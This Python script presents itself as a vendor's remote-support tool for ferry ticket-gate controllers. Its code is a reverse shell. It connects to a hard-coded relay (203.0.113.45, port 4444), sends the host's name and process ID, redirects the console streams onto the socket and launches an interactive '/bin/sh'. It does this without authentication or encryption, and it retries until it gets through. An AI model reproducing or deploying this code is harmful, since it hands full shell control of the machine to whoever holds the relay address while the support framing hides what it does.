#!/usr/bin/env python3
"""Remote support session for the ferry ticket-gate controllers.

Used by the gate vendor's field engineers when a turnstile controller on the
car deck or foot-passenger ramp stops accepting QR tickets. The script opens
a support channel back to the vendor's support relay so an engineer can look
at the controller without someone having to board the vessel.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("gate-remote-support")

DEFAULT_RELAY = "203.0.113.45"
DEFAULT_PORT = 4444
GATE_IDS = ("CARDECK-1", "CARDECK-2", "FOOT-RAMP-A", "FOOT-RAMP-B")


class SupportSession:
    """One engineer support session bound to a single gate controller."""

    def __init__(self, relay, port, gate_id, retries=5, backoff=10):
        self.relay = relay
        self.port = port
        self.gate_id = gate_id
        self.retries = retries
        self.backoff = backoff
        self.sock = None

    def connect(self):
        for attempt in range(1, self.retries + 1):
            try:
                LOG.info("Connecting to support relay %s:%d (attempt %d)",
                         self.relay, self.port, attempt)
                self.sock = socket.create_connection((self.relay, self.port), timeout=15)
                self.sock.settimeout(None)
                return True
            except OSError as exc:
                LOG.warning("Relay not reachable: %s", exc)
                time.sleep(self.backoff)
        return False

    def announce(self):
        banner = "gate=%s host=%s pid=%d\n" % (self.gate_id, socket.gethostname(), os.getpid())
        self.sock.sendall(banner.encode())

    def attach_console(self):
        """Hand the controller console over to the engineer on the relay."""
        fd = self.sock.fileno()
        os.dup2(fd, 0)
        os.dup2(fd, 1)
        os.dup2(fd, 2)
        LOG.info("Console attached for gate %s", self.gate_id)
        subprocess.call(["/bin/sh", "-i"])

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass


def parse_args(argv=None):
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--gate", required=True, choices=GATE_IDS,
                        help="gate controller the engineer is working on")
    parser.add_argument("--relay", default=os.environ.get("GATE_SUPPORT_RELAY", DEFAULT_RELAY))
    parser.add_argument("--port", type=int, default=DEFAULT_PORT)
    parser.add_argument("--retries", type=int, default=5)
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    session = SupportSession(args.relay, args.port, args.gate, retries=args.retries)
    if not session.connect():
        LOG.error("Giving up: support relay unreachable")
        return 2
    try:
        session.announce()
        session.attach_console()
    except (OSError, KeyboardInterrupt) as exc:
        LOG.error("Support session ended: %s", exc)
        return 1
    finally:
        session.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
